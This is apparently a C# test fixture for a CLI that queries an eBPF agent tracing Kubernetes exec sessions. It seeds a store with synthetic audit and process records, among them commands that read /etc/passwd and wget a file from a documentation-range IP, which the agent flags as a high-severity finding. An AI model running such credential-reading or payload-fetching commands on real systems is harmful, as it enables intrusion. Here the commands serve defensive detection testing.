using Ebpf.Agent.Services;
using Ebpf.Api.ExecTrace;
using Ebpf.Api.Grpc;
using Ebpf.Api.Streaming;
using Ebpf.Api.V1;
using Ebpf.Cli.Commands;
using Ebpf.Store;
using Google.Protobuf.WellKnownTypes;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.Data.Sqlite;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;

using Record = Ebpf.Api.V1.Record;

namespace Ebpf.Cli.Tests.Commands;

/// <summary>A clock the test sets: "now" for --since.</summary>
internal sealed class FixedTime(DateTimeOffset now) : TimeProvider
{
    public override DateTimeOffset GetUtcNow() => now;
}

/// <summary>
/// The agent's real gRPC surface in-process: Kestrel (HTTP/2 on 127.0.0.1, random port) serving the agent's
/// <see cref="ExecTraceService"/> over a real SQLite <see cref="EventStore"/> in a temp directory and a
/// <see cref="RecordHub"/>, seeded with <see cref="Seed"/>.
/// </summary>
public sealed class AgentFixture : IAsyncLifetime
{
    private readonly string _directory = Directory.CreateTempSubdirectory("exectrace-cli-test-").FullName;
    private readonly string _node;
    private readonly Func<IReadOnlyList<Record>> _records;
    private WebApplication? _app;

    /// <summary>node-a's agent with <see cref="Seed"/>.</summary>
    public AgentFixture() : this("node-a", Seed.Records) { }

    /// <summary>The agent of <paramref name="node"/>, its store holding <paramref name="records"/>.</summary>
    internal AgentFixture(string node, Func<IReadOnlyList<Record>> records)
    {
        _node = node;
        _records = records;
    }

    public EventStore Store { get; private set; } = null!;
    public RecordHub Hub { get; } = new();
    public string Address { get; private set; } = "";

    /// <summary>"Now" for the CLI: an hour after the first seeded record.</summary>
    public static DateTimeOffset Now => Seed.T0.AddHours(1);

    /// <summary>The CLI's environment for tests: no $EBPF_AGENT, no kubeconfig, fixed clock.</summary>
    public static CliEnvironment Environment(string? kubeconfig = null) => new()
    {
        Variable = name => name == "KUBECONFIG" ? kubeconfig : null,
        HomeDirectory = "/nonexistent-home",
        Time = new FixedTime(Now),
    };

    public async Task InitializeAsync()
    {
        Store = EventStore.Open(new EventStoreOptions { DataDirectory = _directory, RetentionInterval = TimeSpan.Zero, MaxBatchDelay = TimeSpan.FromMilliseconds(1) });
        await Store.AppendAsync(_records());
        var status = new AgentStatusSource(_node, new FixedTime(Seed.T0))
        {
            Probes = () => ["tp/sched/sched_process_exec", "tp/sched/sched_process_fork"],
            PodWatchState = () => "synced",
            LastSequence = () => Store.LastSequence,
            StoreBytes = () => (ulong)Store.StoreSizeBytes,
        };
        status.AddCounters(() => [new("events_exec", 12), new("audit_received", 3)]);

        var builder = WebApplication.CreateSlimBuilder();
        builder.Logging.ClearProviders();
        builder.WebHost.ConfigureKestrel(k => k.ListenGrpc(new GrpcListenOptions { Port = 0 }));
        _app = builder.Build();
        _app.MapExecTraceService(new ExecTraceService(Store, Hub, status), new GrpcServerOptions());
        await _app.StartAsync();
        var bound = _app.Services.GetRequiredService<IServer>().Features.Get<IServerAddressesFeature>()!.Addresses.First();
        Address = "127.0.0.1:" + new Uri(bound.Replace("[::]", "localhost", StringComparison.Ordinal)).Port;
    }

    public async Task DisposeAsync()
    {
        if (_app is not null)
        {
            await _app.StopAsync();
            await _app.DisposeAsync();
        }
        await Store.DisposeAsync();
        SqliteConnection.ClearAllPools();
        Directory.Delete(_directory, recursive: true);
    }
}

/// <summary>
/// What a node's agent records for: alice's `kubectl exec -it web-0 -- sh` running `cat /etc/passwd` and a wget
/// download (certain); bob's earlier exec into web-1 whose id shares a prefix with alice's (ambiguous lookups);
/// the finding the download raised; and the API requests on web-0.
/// </summary>
public static class Seed
{
    public static readonly DateTimeOffset T0 = new(2026, 11, 20, 9, 0, 0, TimeSpan.Zero);
    public const string AliceSession = "7f3a9c02-bbbb-4c1d-9e2f-a0b1c2d3e4f5";
    public const string BobSession = "7f3a9c01-aaaa-4c1d-9e2f-a0b1c2d3e4f5";
    public const string Shell = "4100@88000", Cat = "4101@88100", Wget = "4102@88200";

    public static Timestamp At(double seconds) => Timestamp.FromDateTimeOffset(T0.AddSeconds(seconds));

    private static Workload Workload(string pod) => new()
    {
        Node = "node-a", CgroupId = 4242, Namespace = "shop", Pod = pod, PodUid = "7c0b5d8e-1f2a-4c3b-9d4e-5f6a7b8c9d0e",
        ContainerId = "3f9d2c1b0a5e6f7a8b9c", ContainerName = "web", QosClass = "burstable", Runtime = "containerd", MetadataAvailable = true,
    };

    public static IReadOnlyList<Record> Records()
    {
        const double alice = 3000; // 50 minutes after T0: inside --since 30m at Now = T0 + 1h
        return
        [
            Audit("audit-bob", 99.9, "web-1", "bob@example.com"),
            Exec("200@500", "1@1000", 200, "/bin/sh", ["sh"], 100, "web-1", BobSession),
            Session(BobSession, 100, "bob@example.com", "web-1", Confidence.Probable, "200@500"),

            Audit("audit-alice", alice - 0.1, "web-0", "alice@example.com"),
            Audit("audit-carol-logs", alice + 60, "web-0", "carol@example.com", subresource: "log", verb: "get", code: 200),
            Exec(Shell, "1@1000", 4100, "/bin/sh", ["sh"], alice, "web-0", AliceSession, cwd: "/"),
            Fork(Shell, 4100, Cat, 4101, alice + 2),
            Exec(Cat, Shell, 4101, "/bin/cat", ["cat", "/etc/passwd"], alice + 2.1, "web-0"),
            Open(Cat, 4101, alice + 2.15, "/etc/passwd"),
            Exit(Cat, 4101, alice + 2.2, 0),
            Fork(Shell, 4100, Wget, 4102, alice + 3),
            Exec(Wget, Shell, 4102, "/usr/bin/wget", ["wget", "-O", "/tmp/x", "http://203.0.113.9/x"], alice + 3.1, "web-0"),
            Connect(Wget, 4102, alice + 3.2, "203.0.113.9", 80),
            Open(Wget, 4102, alice + 3.3, "/tmp/x"),
            Exit(Wget, 4102, alice + 3.4, 0),
            new Record { Time = At(alice + 3.5), Attribution = new AttributionUpdate { SessionId = AliceSession, Confidence = Confidence.Certain, ProcessKeys = { Cat, Wget } } },
            new Record
            {
                Time = At(alice + 3.5),
                Finding = new Finding
                {
                    Id = "f-1", Kind = "exec-download", Severity = Severity.High, Summary = "wget downloaded http://203.0.113.9/x in shop/web-0",
                    Time = At(alice + 3.5), Namespace = "shop", Pod = "web-0", User = "alice@example.com", SessionId = AliceSession,
                    Evidence = { ["argv"] = "wget -O /tmp/x http://203.0.113.9/x" },
                },
            },
            Exit(Shell, 4100, alice + 10, 0),
            Session(AliceSession, alice, "alice@example.com", "web-0", Confidence.Certain, Shell, end: alice + 10),
        ];
    }

    private static Record Exec(string key, string parentKey, int pid, string filename, string[] argv, double at, string pod, string sessionId = "", string cwd = "/app") => new()
    {
        Time = At(at),
        NodeEvent = new NodeEvent
        {
            Time = At(at), Pid = pid, Tid = pid, ProcessKey = key, Workload = Workload(pod), SessionId = sessionId,
            Exec = new ExecDetails
            {
                ParentProcessKey = parentKey, Filename = filename, Argv = { argv }, Cwd = cwd, Uid = 0, Gid = 0,
                LoginUid = uint.MaxValue, Comm = Path.GetFileName(filename),
            },
        },
    };

    private static Record Fork(string parentKey, int parentPid, string childKey, int childPid, double at) => new()
    {
        Time = At(at),
        NodeEvent = new NodeEvent
        {
            Time = At(at), Pid = parentPid, Tid = parentPid, ProcessKey = parentKey, Workload = Workload("web-0"),
            Fork = new ForkDetails { ParentPid = parentPid, ParentProcessKey = parentKey, ChildPid = childPid, ChildProcessKey = childKey },
        },
    };

    private static Record Exit(string key, int pid, double at, int code) => new()
    {
        Time = At(at),
        NodeEvent = new NodeEvent { Time = At(at), Pid = pid, Tid = pid, ProcessKey = key, Workload = Workload("web-0"), Exit = new ExitDetails { WaitStatus = code << 8, ExitCode = code } },
    };

    private static Record Connect(string key, int pid, double at, string address, uint port) => new()
    {
        Time = At(at),
        NodeEvent = new NodeEvent
        {
            Time = At(at), Pid = pid, Tid = pid, ProcessKey = key, Workload = Workload("web-0"),
            Connect = new ConnectDetails { Family = "inet", Address = address, Port = port, Fd = 3, Result = -115 },
        },
    };

    private static Record Open(string key, int pid, double at, string path) => new()
    {
        Time = At(at),
        NodeEvent = new NodeEvent
        {
            Time = At(at), Pid = pid, Tid = pid, ProcessKey = key, Workload = Workload("web-0"),
            FileOpen = new FileOpenDetails { Path = path, DirFd = -100, Flags = 0x241, Mode = 0x1a4, Result = 3 },
        },
    };

    private static Record Session(string id, double at, string user, string pod, Confidence confidence, string rootKey, double? end = null) => new()
    {
        Time = At(at),
        Session = new Session
        {
            Id = id, Kind = SessionKind.Exec, Confidence = confidence, Reason = "one exec audit event, one new process in the container",
            AuditId = "audit-" + user.Split('@')[0], User = user, Groups = { "system:authenticated", "dev" }, SourceIps = { "10.0.0.7" },
            UserAgent = "kubectl/v1.31.0", Verb = "create", Namespace = "shop", Pod = pod, Container = "web",
            Command = { "sh" }, Tty = true, Stdin = true, RequestReceived = At(at - 0.2), RootProcessKey = rootKey,
            Workload = Workload(pod), NodeStart = At(at), NodeEnd = end is { } e ? At(e) : null,
        },
    };

    private static Record Audit(string auditId, double at, string pod, string user, string subresource = "exec", string verb = "create", int code = 101) => new()
    {
        Time = At(at),
        AuditEvent = new AuditEvent
        {
            AuditId = auditId, Stage = "ResponseComplete", Level = "Metadata", Verb = verb,
            RequestUri = subresource == "exec" ? $"/api/v1/namespaces/shop/pods/{pod}/exec?command=sh&container=web&stdin=true&tty=true" : $"/api/v1/namespaces/shop/pods/{pod}/{subresource}",
            User = new UserInfo { Username = user, Groups = { "system:authenticated" } }, AttributedUser = user,
            SourceIps = { "10.0.0.7" }, UserAgent = "kubectl/v1.31.0", Resource = "pods", Subresource = subresource,
            Namespace = "shop", Name = pod, ResponseCode = code, RequestReceived = At(at - 0.1), StageTimestamp = At(at),
            Container = "web", Command = { "sh" }, Tty = true, Stdin = true,
        },
    };
}
